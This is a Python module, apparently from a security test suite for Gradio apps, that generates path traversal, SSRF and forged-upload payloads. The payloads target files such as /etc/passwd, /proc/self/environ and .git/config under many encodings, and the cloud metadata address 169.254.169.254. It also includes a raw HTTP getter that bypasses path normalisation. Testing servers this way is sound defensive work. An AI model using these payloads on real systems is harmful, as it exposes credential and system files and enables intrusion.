"""Attacks on paths and URLs: files of the server, addresses for it to fetch, forged uploads."""

from __future__ import annotations

import http.client
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

API = "/gradio_api"
REQUEST_TIMEOUT_S = 20.0


def traversal_paths(files: list[str], local_server: str) -> Iterator[str]:
    """Yield request paths that name a file of the server, or a URL for it to fetch.

    files are absolute paths that exist, tried beside those that every machine has; local_server is HOST:PORT.
    """
    own = [str(Path(__file__).resolve()), "app.py", ".git/config"]
    for path in [*files, "/etc/passwd", "/proc/self/environ", *own]:
        dots = "/".join([".."] * 12) + path
        for form in (path, dots, "//" + path, path.upper(), "file://" + path):
            for written in (form, quote(form, safe=""), quote(form, safe="").replace(".", "%2e")):
                yield f"{API}/file={written}"
                yield f"{API}/file/{written}"
        for prefix in ("/static/", "/assets/", "/svelte/", f"{API}/custom_component/1/client/component/"):
            yield prefix + dots
            yield prefix + quote(dots, safe="").replace(".", "%2e")
    for url in (
        f"http://{local_server}/x.png",
        f"HTTP://{local_server}/x.png",
        "http://169.254.169.254/latest",
        f" http://{local_server}/",
    ):
        for route in ("file=", "file/", "proxy="):
            yield f"{API}/{route}{quote(url, safe=':/')}"
            yield f"{API}/{route}{quote(url, safe='')}"
    yield f"{API}/file=%00"
    yield f"{API}/file=" + "a" * 5000


def get_exact_path(address: str, path: str) -> tuple[int, bytes]:
    """Return (status, body) of a GET of exactly this path, which httpx would normalise. Raises OSError."""
    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=REQUEST_TIMEOUT_S)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def forged_uploads(target: str) -> list[object]:
    """Return values of an upload component that claim an uploaded file to be at the target, a path or a URL."""
    meta = {"_type": "gradio.FileData"}
    return [
        {"path": target, "meta": meta},
        {"path": target},
        {"path": "a.png", "url": target, "meta": meta},
        {"path": target, "url": target, "orig_name": target, "is_stream": True, "meta": meta},
        [{"path": target, "meta": meta}],
        target,
    ]
